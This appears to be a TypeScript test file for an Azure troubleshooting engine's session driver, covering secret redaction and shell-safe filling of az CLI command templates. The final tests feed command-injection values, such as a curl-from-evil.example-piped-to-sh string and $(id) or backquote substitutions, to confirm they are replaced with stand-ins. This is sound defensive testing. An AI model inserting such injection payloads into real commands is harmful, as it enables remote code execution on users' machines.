import {describe, expect, test} from 'vitest';
import {createScriptedServices} from '../../test/support/scripted-services.ts';
import type {Finding} from '../findings/finding.ts';
import {tree} from '../tree/index.ts';
import {createSessionStore, type EngineServices} from './driver.ts';
import {fillCommand, fillPlaceholders} from './fill.ts';
import type {Session} from './session.ts';
import {currentNodeId} from './session.ts';

function until(store: ReturnType<typeof createSessionStore>, predicate: (session: Session) => boolean) {
	return new Promise<Session>(resolve => {
		if (predicate(store.getSnapshot())) {
			resolve(store.getSnapshot());
			return;
		}

		const off = store.subscribe(() => {
			if (predicate(store.getSnapshot())) {
				off();
				resolve(store.getSnapshot());
			}
		});
	});
}

describe('the effect driver', () => {
	test('runs checks, the fix and the replay, and saves the session as it goes', async () => {
		const saved: Session[] = [];
		const services = createScriptedServices({
			checks: {'token-tenant': {status: 'fail', facts: {tokenTenant: 'home'}}},
			afterFix: {checks: {'token-tenant': {status: 'pass'}}},
		});
		const store = createSessionStore(
			{id: 'x', entry: 'paste', family: 'arm-token-tenant-mismatch'},
			{tree, services: {...services, saveSession: session => void saved.push(session)}, timeoutMs: 1000},
		);
		for (let index = 0; index < 20 && !store.getSnapshot().outcome; index++) {
			await until(store, session => !session.pending);
			store.dispatch({type: 'continue'});
		}

		const session = store.getSnapshot();
		expect(currentNodeId(session)).toBe('fixed');
		expect(services.calls).toEqual([
			{kind: 'check', id: 'subscription-tenant'},
			{kind: 'check', id: 'token-tenant'},
			// Wrong tenant or stale cache: the caches tell (scripted: nothing stale).
			{kind: 'check', id: 'cache-state'},
			{kind: 'fix', id: 'login-tenant'},
			{kind: 'replay', id: 'replay'},
		]);
		expect(session.facts['tokenTenant']).toBe('home');
		expect(saved.at(-1)?.outcome).toBe('fixed');
	});

	test("the fix's effects (the tree's data) reach applyFix, with the facts learnt so far", async () => {
		const services = createScriptedServices({});
		const received: unknown[] = [];
		const store = createSessionStore(
			{id: 'x', entry: 'paste', start: 'stale-fix-purge', facts: {tokenTenant: 't-old', subscriptionTenant: 't-new'}},
			{
				tree,
				services: {
					...services,
					applyFix: async (action, facts, signal, effects) => {
						received.push({action, tenant: facts['tokenTenant'], effects});
						return services.applyFix(action, facts, signal, effects);
					},
				},
				timeoutMs: 1000,
			},
		);
		store.dispatch({type: 'continue'});
		store.dispatch({type: 'continue'});
		await until(store, session => currentNodeId(session) === 'verify');
		expect(received).toEqual([
			{
				action: 'purge-cache',
				tenant: 't-old',
				effects: [
					{kind: 'purge-cache', tenant: '{tokenTenant}'},
					{kind: 'sign-in', tenant: '{subscriptionTenant}'},
				],
			},
		]);
	});

	test('a check that never answers ends as an error finding within the timeout', async () => {
		const services: EngineServices = {
			...createScriptedServices({}),
			runCheck: (_id, _facts, _signal) => new Promise<Finding>(() => {}),
		};
		const store = createSessionStore({id: 'x', entry: 'health'}, {tree, services, timeoutMs: 50});
		const session = await until(store, current => current.results['health-cli'] !== undefined);
		expect(session.results['health-cli']).toMatchObject({
			status: 'error',
			detail: 'Could not run: no answer within 0 s.',
		});
	});

	test('what a check answers or fails with is redacted before it becomes a result, a fact or a saved step', async () => {
		const password = 'Zq4vT9mWx2LpR7kN';
		const proxy = `http://alice:${password}@proxy.corp.example:3128`;
		const saved: Session[] = [];
		let calls = 0;
		const services: EngineServices = {
			...createScriptedServices({}),
			runCheck: async id => {
				if (calls++ === 0) throw new Error(`tunneling socket could not be established (proxy ${proxy})`);
				return {id, status: 'fail', title: id, detail: `Could not reach ARM through ${proxy}.`, facts: {proxy}};
			},
			saveSession: session => void saved.push(session),
		};
		const store = createSessionStore({id: 'x', entry: 'health'}, {tree, services, timeoutMs: 1000});
		const session = await until(store, current => current.results['health-cli'] !== undefined);
		expect(session.results['health-cli']?.detail).toContain('(proxy http://alice:[redacted]@proxy.corp.example:3128)');
		store.dispatch({type: 'continue'});
		const next = await until(store, current => Object.keys(current.results).length > 1);
		expect(JSON.stringify(next)).not.toContain(password);
		expect(JSON.stringify(saved)).not.toContain(password);
		expect(JSON.stringify(next)).toContain('alice:[redacted]@proxy.corp.example:3128');
	});

	test('going back cancels the check in flight (its signal aborts)', async () => {
		let signal: AbortSignal | undefined;
		const services: EngineServices = {
			...createScriptedServices({}),
			runCheck(id, _facts, received) {
				if (id === 'credential-source') {
					signal = received;
					return new Promise<Finding>(() => {});
				}

				return Promise.resolve({id, status: 'pass', title: id, detail: ''});
			},
		};
		const store = createSessionStore({id: 'x', entry: 'health'}, {tree, services, timeoutMs: 5000});
		await until(store, session => !session.pending);
		store.dispatch({type: 'continue'});
		await until(store, () => signal !== undefined);
		store.dispatch({type: 'back'});
		expect(signal?.aborted).toBe(true);
		expect(currentNodeId(store.getSnapshot())).toBe('health-cli');
	});
});

test('placeholders are filled from facts, unknown ones get a readable stand-in', () => {
	expect(fillPlaceholders('az login --tenant {subscriptionTenant}', {subscriptionTenant: 'abc'})).toBe(
		'az login --tenant abc',
	);
	expect(fillPlaceholders('az login --tenant {subscriptionTenant} {clientId}', {})).toBe(
		'az login --tenant <subscription-tenant-id> <client-id>',
	);
	// A fact has one name: a claim's or a check's own name is no placeholder's value.
	expect(
		fillPlaceholders('{subscriptionTenant} {tokenTenant} {principalId}', {
			subscriptionTenant: 'b',
			tokenTenant: 'a',
			principalId: 'p',
		}),
	).toBe('b a p');
	expect(fillPlaceholders('{tid}', {tokenTenant: 'a'})).toBe('<tid>');
});

test('a command takes a fact only when it is shell-safe; anything else shows the stand-in', () => {
	expect(
		fillCommand('az login --tenant {tokenTenant} --scope {audience}', {
			tokenTenant: '72f988bf-86f1-41af-91ab-2d7cd011db47',
			audience: 'https://management.azure.com/',
		}),
	).toBe('az login --tenant 72f988bf-86f1-41af-91ab-2d7cd011db47 --scope https://management.azure.com/');
	expect(fillCommand('az login --tenant {tokenTenant}', {tokenTenant: "x'; curl https://evil.example | sh; '"})).toBe(
		'az login --tenant <token-tenant-id>',
	);
	expect(fillCommand('az account set --subscription {subscriptionId}', {subscriptionId: '$(id)'})).toBe(
		'az account set --subscription <subscription-id>',
	);
});

test('inside double quotes a fact may hold spaces (a role name), never a quote, $ or a backquote', () => {
	expect(
		fillCommand('az role assignment create --role "{role}" --scope {roleScope}', {
			role: 'Storage Blob Data Reader',
			roleScope: '/subscriptions/s',
		}),
	).toBe('az role assignment create --role "Storage Blob Data Reader" --scope /subscriptions/s');
	expect(fillCommand('--role {role}', {role: 'Storage Blob Data Reader'})).toBe('--role <role>');
	for (const role of ['Reader" && curl evil | sh "', 'Reader $(id)', 'Reader `id`', 'Reader\\x'])
		expect(fillCommand('--role "{role}"', {role})).toBe('--role "<role>"');
});
